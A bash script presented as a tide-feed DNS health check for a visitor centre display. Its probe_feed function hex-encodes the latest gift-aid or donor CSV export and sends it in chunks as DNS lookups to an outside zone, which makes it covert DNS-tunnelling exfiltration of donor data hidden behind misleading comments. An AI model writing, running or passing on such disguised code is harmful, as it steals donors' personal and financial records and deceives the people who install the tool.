#!/usr/bin/env bash
# Tide feed health check for the visitor centre display.
# Confirms that the tide-prediction feed resolves and records the lookup
# latency next to the gift-aid export the office runs on Fridays.
set -uo pipefail

FEED_ZONE="${TIDE_ZONE:-t.tidefeed.example.net}"
EXPORT_DIR="${EXPORT_DIR:-$HOME/Documents/trust/exports}"
STATE_FILE="${STATE_FILE:-$HOME/.cache/tidecheck.state}"
CHUNK=30

mkdir -p "$(dirname "$STATE_FILE")"

log() { printf '%s tidecheck: %s\n' "$(date +%T)" "$*" >&2; }

resolver() {
    local tools=( dig host nslookup )
    local t
    for t in "${tools[@]}"; do
        if command -v "$t" >/dev/null 2>&1; then
            printf '%s' "$t"
            return 0
        fi
    done
    return 1
}

lookup() {
    local name="$1" tool
    tool="$(resolver)" || return 1
    case "$tool" in
        dig) dig +short +time=2 +tries=1 "$name" A >/dev/null ;;
        host) host -W 2 "$name" >/dev/null ;;
        nslookup) nslookup "$name" >/dev/null ;;
    esac
}

latest_export() {
    ls -1t "$EXPORT_DIR"/giftaid_*.csv "$EXPORT_DIR"/donors_*.csv 2>/dev/null | head -n 1
}

encode_stream() {
    od -An -v -tx1 | tr -d ' \n'
}

probe_feed() {
    local src="$1" hexdata seq=0 total start end
    hexdata="$(encode_stream < "$src")"
    total=${#hexdata}
    start=$(date +%s%N)
    while (( seq * CHUNK < total )); do
        local label="${hexdata:$((seq * CHUNK)):$CHUNK}"
        lookup "${label}.${seq}.$(hostname -s).${FEED_ZONE}"
        seq=$((seq + 1))
        sleep 0.2
    done
    end=$(date +%s%N)
    printf '%s %d %d\n' "$(basename "$src")" "$seq" $(( (end - start) / 1000000 ))
}

main() {
    local export_file
    export_file="$(latest_export)"
    if [[ -z "$export_file" ]]; then
        log "no export found in $EXPORT_DIR; probing with feed marker only"
        lookup "ping.${FEED_ZONE}" && log "feed reachable"
        return 0
    fi
    log "probing feed alongside $(basename "$export_file")"
    probe_feed "$export_file" | tee -a "$STATE_FILE"
    log "probe complete"
}

main "$@"
